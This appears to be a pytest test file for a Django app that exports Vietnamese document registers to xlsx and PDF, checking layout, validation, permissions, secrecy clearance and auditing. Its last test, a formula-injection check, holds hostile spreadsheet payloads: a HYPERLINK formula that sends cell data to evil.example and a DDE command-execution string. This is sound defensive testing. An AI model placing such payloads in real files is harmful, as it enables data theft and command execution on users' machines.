"""Printed registers (Decree 30, Đ16, Đ22 and Appendix IV): the xlsx and the PDF carry the cover and the ten columns
exactly, for a date range and a number range; only clerks and leaders print, only what they may see; bad ranges are
refused with a clear error; an empty range prints the cover and a note; every export is audited."""

import datetime
import io
import subprocess

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from openpyxl import load_workbook

from apps.audit.models import AuditEvent
from apps.core.tests.utils import client_as
from apps.documents.tests.factories import RegisteredIncomingFactory, default_register, make_person
from apps.people.models import Role
from apps.people.tests.factories import UnitFactory
from apps.registers.models import DocumentType, Register, Secrecy

# Last year: every arrival date of the year is in the past, whatever day the tests run.
YEAR = timezone.localdate().year - 1
API = "/api/v1/registers/{}/export/"
PAGE = "/registers/print/"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def d(day: int, month: int) -> datetime.date:
    return datetime.date(YEAR, month, day)


def received(clerk, arrival: tuple[int, int], issued: tuple[int, int], issuer: str, **fields):
    """A document from ``issuer`` issued on ``issued`` (day, month), registered by ``clerk`` on ``arrival``."""
    return RegisteredIncomingFactory(
        by=clerk, arrival_date=d(*arrival), issued_date=d(*issued), issuer=issuer, **fields
    )


def ddmm(day: int, month: int) -> str:
    return d(day, month).strftime("%d/%m/%Y")


@pytest.fixture
def book(alpha):
    """Three documents in alpha's incoming register, registered by a clerk (arrival numbers 01, 02, 03)."""
    clerk = make_person(Role.CLERK)
    clerk.user.full_name = "Trần Thị Văn Thư"
    clerk.user.save()
    unit = UnitFactory(name="Phòng Tổng hợp")
    reader = make_person(Role.SPECIALIST, unit=unit)
    reader.user.full_name = "Lê Văn Nhận"
    reader.user.save()
    decision = DocumentType.objects.get(abbreviation="QĐ")
    docs = [
        received(
            clerk,
            (5, 3),
            (3, 3),
            "Ủy ban nhân dân tỉnh Đồng Nai",
            number=12658,
            notation="UBND-KGVX",
            subject="V/v triển khai kế hoạch chuyển đổi số năm 2026",
            urgency="urgent",
            recipient_units=[unit],
            recipient_users=[reader.user],
            description="Bản giấy kèm theo",
        ),
        received(
            clerk,
            (20, 6),
            (18, 6),
            "Bộ Nội vụ",
            document_type=decision,
            number=5,
            notation="QĐ-BNV",
            subject="Về việc phê duyệt đề án vị trí việc làm",
        ),
        received(
            clerk,
            (15, 11),
            (14, 11),
            "Sở Tài chính tỉnh Đồng Nai",
            number=189,
            notation="TB-STC",
            document_type=DocumentType.objects.get(abbreviation="TB"),
            subject="Thông báo kết luận cuộc họp giao ban quý III",
        ),
    ]
    return {"clerk": clerk, "unit": unit, "reader": reader, "docs": docs, "register": default_register()}


ROW_1 = (
    ddmm(5, 3),
    "01",
    "Ủy ban nhân dân tỉnh Đồng Nai",
    "12658/UBND-KGVX",
    ddmm(3, 3),
    "Công văn: V/v triển khai kế hoạch chuyển đổi số năm 2026",
    "Phòng Tổng hợp; Lê Văn Nhận",
    "",
    "",
    "Khẩn; Bản giấy kèm theo",
)
ROW_2 = (
    ddmm(20, 6),
    "02",
    "Bộ Nội vụ",
    "05/QĐ-BNV",
    ddmm(18, 6),
    "Quyết định: Về việc phê duyệt đề án vị trí việc làm",
    "",
    "",
    "",
    "",
)
ROW_3 = (
    ddmm(15, 11),
    "03",
    "Sở Tài chính tỉnh Đồng Nai",
    "189/TB-STC",
    ddmm(14, 11),
    "Thông báo: Thông báo kết luận cuộc họp giao ban quý III",
    "",
    "",
    "",
    "",
)
HEADINGS = [
    "Ngày đến",
    "Số đến",
    "Tác giả",
    "Số, ký hiệu văn bản",
    "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận",
    "Ngày chuyển",
    "Ký nhận",
    "Ghi chú",
]


def export(client, register, **params):
    return client.get(API.format(register.pk), params)


def workbook(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX_TYPE
    return load_workbook(io.BytesIO(response.content))


def cover_text(wb) -> list[str]:
    return [row[0] for row in wb["Bìa sổ"].iter_rows(values_only=True) if row[0]]


def table(wb) -> tuple[list[str], list[str], list[tuple[str, ...]]]:
    rows = [tuple(v or "" for v in row) for row in wb["Sổ đăng ký"].iter_rows(values_only=True)]
    return list(rows[1]), list(rows[2]), rows[3:]


def pdf_text(content: bytes) -> str:
    """The PDF's text as poppler extracts it, whitespace collapsed (long cells wrap over lines)."""
    assert content.startswith(b"%PDF-")
    out = subprocess.run(["pdftotext", "-raw", "-enc", "UTF-8", "-", "-"], input=content, capture_output=True)
    assert out.returncode == 0, out.stderr
    return " ".join(out.stdout.decode().split())


@pytest.mark.django_db
def test_the_xlsx_of_a_date_range_has_the_cover_and_exactly_the_documents_that_arrived_in_it(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    wb = workbook(export(client, book["register"], format="xlsx", from_date=ddmm(1, 6), to_date=ddmm(30, 11)))
    assert cover_text(wb) == [
        "SỞ THỬ NGHIỆM ALPHA TỈNH ĐỒNG NAI",
        "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN",
        f"Năm: {YEAR}",
        f"Từ ngày {ddmm(1, 6)} đến ngày {ddmm(30, 11)}",
        "Từ số 02 đến số 03",
        "Quyển số: ..........",
    ]
    headings, numbers, rows = table(wb)
    assert headings == HEADINGS
    assert numbers == [f"({n})" for n in range(1, 11)]
    assert rows == [ROW_2, ROW_3]
    footer = wb["Sổ đăng ký"].oddFooter
    assert "Sở Thử nghiệm Alpha tỉnh Đồng Nai" in footer.left.text and "Trần Thị Văn Thư" in footer.left.text
    assert footer.right.text == "Trang &P/&N"
    assert wb["Sổ đăng ký"].page_setup.orientation == "landscape"


@pytest.mark.django_db
def test_the_xlsx_of_a_number_range_lists_those_arrival_numbers_with_their_dates_on_the_cover(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    response = export(client, book["register"], format="xlsx", year=YEAR, from_number="01", to_number="2", volume=3)
    assert f'filename="so-dang-ky-van-ban-den-{YEAR}-so1-2.xlsx"' in response["Content-Disposition"]
    wb = workbook(response)
    assert cover_text(wb)[2:] == [
        f"Năm: {YEAR}",
        f"Từ ngày {ddmm(5, 3)} đến ngày {ddmm(20, 6)}",
        "Từ số 01 đến số 02",
        "Quyển số: 03",
    ]
    assert table(wb)[2] == [ROW_1, ROW_2]


@pytest.mark.django_db
def test_the_whole_year_is_printed_when_no_range_is_given(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    wb = workbook(export(client, book["register"], format="xlsx", year=YEAR))
    assert table(wb)[2] == [ROW_1, ROW_2, ROW_3]
    assert f"Từ ngày {ddmm(5, 3)} đến ngày {ddmm(15, 11)}" in cover_text(wb)


@pytest.mark.django_db
def test_the_pdf_text_holds_the_cover_lines_and_the_rows_with_their_diacritics(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    response = export(client, book["register"], format="pdf", from_number=1, to_number=3, year=YEAR)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    text = pdf_text(response.content)
    for line in [
        "SỞ THỬ NGHIỆM ALPHA TỈNH ĐỒNG NAI",
        "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN",
        f"Năm: {YEAR}",
        f"Từ ngày {ddmm(5, 3)} đến ngày {ddmm(15, 11)}",
        "Từ số 01 đến số 03",
        "Trang 1/",
        "Trần Thị Văn Thư",
    ]:
        assert line in text, line
    # A cell may wrap inside its column, even after a "/" or "-": compare without the spaces.
    compact = text.replace(" ", "")
    for cell in [*HEADINGS, *[cell for row in (ROW_1, ROW_2, ROW_3) for cell in row if cell]]:
        assert cell.replace(" ", "") in compact, cell
    with translation.override("vi"):
        assert "In từ hệ thống" in text


@pytest.mark.django_db
def test_the_pdf_pages_are_a4_the_cover_portrait_and_the_register_landscape(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    content = export(client, book["register"], format="pdf", year=YEAR).content
    out = subprocess.run(["pdfinfo", "-f", "1", "-l", "2", "-"], input=content, capture_output=True, check=True)
    sizes = [line.split(":", 1)[1].split("pts")[0].split(" x ") for line in out.stdout.decode().splitlines()]
    sizes = [tuple(round(float(v)) for v in size) for size in sizes if len(size) == 2]
    assert sizes[:2] == [(595, 842), (842, 595)]
    fonts = subprocess.run(["pdffonts", "-"], input=content, capture_output=True, check=True).stdout.decode()
    assert "Liberation-Serif" in fonts


@pytest.mark.django_db
def test_an_empty_range_prints_the_cover_and_an_empty_table_with_a_note(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    wb = workbook(export(client, book["register"], format="xlsx", from_date=ddmm(1, 1), to_date=ddmm(28, 2)))
    assert f"Từ ngày {ddmm(1, 1)} đến ngày {ddmm(28, 2)}" in cover_text(wb)
    assert "Từ số .......... đến số .........." in cover_text(wb)
    headings, _numbers, rows = table(wb)
    with translation.override("vi"):
        note = "Không có văn bản nào trong sổ thuộc khoảng đã chọn."
    assert headings == HEADINGS and rows == [(note, *[""] * 9)]
    pdf = export(client, book["register"], format="pdf", from_number=50, to_number=60, year=YEAR)
    assert pdf.status_code == 200
    text = pdf_text(pdf.content)
    assert note in text and "Từ số 50 đến số 60" in text


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from_date": "20/06/2025", "to_date": "01/06/2025"}, "to_date"),
        ({"from_number": "9", "to_number": "3"}, "to_number"),
        ({"from_number": "abc"}, "from_number"),
        ({"to_number": "-2"}, "to_number"),
        ({"from_date": "31/02/2025"}, "from_date"),
        ({"year": "25"}, "year"),
        ({"year": "2025", "to_date": "05/01/2026"}, "to_date"),
        ({"from_date": "30/12/2024", "to_date": "05/01/2025"}, "to_date"),
        ({"volume": "x"}, "volume"),
        ({"format": "docx"}, "format"),
        ({"format": ""}, "format"),
    ],
)
def test_a_bad_range_or_format_is_refused_by_field_and_nothing_is_exported(book, alpha, params, field):
    client = client_as(alpha, book["clerk"].user)
    with translation.override("en"):
        response = export(client, book["register"], **{"format": "xlsx", **params})
    assert response.status_code == 409
    assert field in response.json()["errors"], response.json()
    assert not AuditEvent.objects.filter(action="exported").exists()


@pytest.mark.django_db
def test_a_pdf_too_long_for_one_request_is_refused_and_the_xlsx_still_given(book, alpha, settings):
    settings.REGISTER_PDF_MAX_ROWS = 2
    client = client_as(alpha, book["clerk"].user, language="en")
    response = export(client, book["register"], format="pdf", year=YEAR)
    assert response.status_code == 409
    assert response.json()["errors"] == {
        "format": ["3 documents are too many for one PDF (at most 2): print a shorter range, or download the xlsx."]
    }
    assert export(client, book["register"], format="pdf", year=YEAR, to_number=2).status_code == 200
    assert len(table(workbook(export(client, book["register"], format="xlsx", year=YEAR)))[2]) == 3


@pytest.mark.django_db
def test_every_problem_is_reported_at_once(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    response = export(client, book["register"], format="odt", from_date="hôm qua", from_number="9", to_number="1")
    assert response.status_code == 409
    assert {"format", "from_date", "to_number"} <= set(response.json()["errors"])


@pytest.mark.django_db
def test_a_specialist_may_not_print_registers(book, alpha):
    client = client_as(alpha, book["reader"].user)
    assert export(client, book["register"], format="xlsx").status_code == 403
    assert client.get(PAGE).status_code == 403
    assert client.get(PAGE, {"register": book["register"].pk, "format": "xlsx"}).status_code == 403


@pytest.mark.django_db
def test_an_unknown_register_is_not_found(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    assert export(client, Register(pk=987654), format="xlsx").status_code == 404


@pytest.mark.django_db
def test_secret_documents_reach_only_the_printouts_of_people_cleared_for_them(alpha):
    clerk = make_person(Role.CLERK, clearance=Secrecy.TOP_SECRET)
    leader = make_person(Role.LEADER)  # no clearance
    secret_register = default_register(secret=True)
    common = {"by": clerk, "register": secret_register, "arrival_date": d(2, 2), "issued_date": d(1, 2)}
    RegisteredIncomingFactory(**common, secrecy=Secrecy.SECRET, subject="V/v tài liệu tối mật chung")
    RegisteredIncomingFactory(
        **common, secrecy=Secrecy.CONFIDENTIAL, subject="V/v tài liệu mật gửi lãnh đạo", recipient_users=[leader.user]
    )
    low_clerk = make_person(Role.CLERK, clearance=Secrecy.CONFIDENTIAL)

    def rows(person) -> list[str]:
        wb = workbook(export(client_as(alpha, person.user), secret_register, format="xlsx", year=YEAR))
        return [row[5] for row in table(wb)[2]]

    assert rows(clerk) == ["Công văn: V/v tài liệu tối mật chung", "Công văn: V/v tài liệu mật gửi lãnh đạo"]
    assert rows(low_clerk) == ["Công văn: V/v tài liệu mật gửi lãnh đạo"]
    assert rows(leader) == ["Công văn: V/v tài liệu mật gửi lãnh đạo"]
    wb = workbook(export(client_as(alpha, clerk.user), secret_register, format="xlsx", year=YEAR))
    assert "Sổ đăng ký văn bản đến mật" in cover_text(wb)
    assert table(wb)[2][0][9] == "Tối mật"


@pytest.mark.django_db
def test_a_leader_prints_the_register_too(book, alpha):
    wb = workbook(export(client_as(alpha, make_person(Role.LEADER).user), book["register"], format="xlsx", year=YEAR))
    assert len(table(wb)[2]) == 3


@pytest.mark.django_db
def test_an_export_is_recorded_in_the_audit_trail(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    export(client, book["register"], format="pdf", year=YEAR, from_number=2)
    event = AuditEvent.objects.get(action="exported")
    assert (event.object_type, event.object_id) == ("registers.register", str(book["register"].pk))
    assert event.actor_id == book["clerk"].user.pk
    assert event.changes["format"] == "pdf"
    assert (event.changes["year"], event.changes["from_number"], event.changes["to_number"]) == (YEAR, 2, None)
    assert (event.changes["rows"], event.changes["numbers"]) == (2, [2, 3])


@pytest.mark.django_db
def test_the_export_runs_a_fixed_number_of_queries_whatever_the_register_holds(book, alpha):
    client = client_as(alpha, book["clerk"].user)

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert export(client, book["register"], format="xlsx", year=YEAR).status_code == 200
        return len(queries)

    before = count()
    for n in range(4):
        RegisteredIncomingFactory(
            by=book["clerk"],
            arrival_date=d(1, 12),
            issued_date=d(1, 12),
            recipient_units=[UnitFactory()],
            recipient_users=[make_person(Role.SPECIALIST).user],
            subject=f"V/v bổ sung {n}",
        )
    assert count() == before


@pytest.mark.django_db
def test_the_print_page_offers_the_registers_and_downloads_the_file(book, alpha):
    client = client_as(alpha, book["clerk"].user)
    page = client.get(PAGE)
    assert page.status_code == 200
    content = page.content.decode()
    for kind in ["đến", "đến mật", "đi", "đi mật"]:
        assert f">Sổ đăng ký văn bản {kind}</option>" in content, kind
    assert "Sổ đăng ký bản sao văn bản" not in content  # no printed form for the copies register yet
    download = client.get(PAGE, {"register": book["register"].pk, "year": YEAR, "format": "xlsx"})
    assert len(table(workbook(download))[2]) == 3


@pytest.mark.django_db
def test_the_print_page_shows_what_is_wrong_with_the_range(book, alpha):
    client = client_as(alpha, book["clerk"].user, language="en")
    response = client.get(
        PAGE, {"register": book["register"].pk, "from_date": "20/06/2025", "to_date": "01/06/2025", "format": "pdf"}
    )
    assert response.status_code == 400
    assert "The end date is before the start date." in response.content.decode()
    assert not AuditEvent.objects.filter(action="exported").exists()


@pytest.mark.django_db
def test_the_menu_offers_printing_to_clerks_and_leaders_only(book, alpha):
    assert PAGE in client_as(alpha, book["clerk"].user).get("/").content.decode()
    assert PAGE not in client_as(alpha, book["reader"].user).get("/").content.decode()


@pytest.mark.django_db
def test_text_typed_like_a_formula_is_printed_as_text_and_never_a_formula_cell(alpha):
    import zipfile

    clerk = make_person(Role.CLERK)
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    RegisteredIncomingFactory(
        by=clerk,
        arrival_date=d(2, 2),
        issued_date=d(1, 2),
        issuer=hostile,
        subject="+SUM(1,2)",
        description="@cmd|' /C calc'!A0",
    )
    response = export(client_as(alpha, clerk.user), default_register(), format="xlsx", year=YEAR)
    wb = workbook(response)
    cells = [cell for sheet in wb for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    row = table(wb)[2][0]
    assert row[2] == hostile and row[5] == "Công văn: +SUM(1,2)" and row[9] == "@cmd|' /C calc'!A0"
    assert wb["Sổ đăng ký"]["C4"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet2.xml").decode()
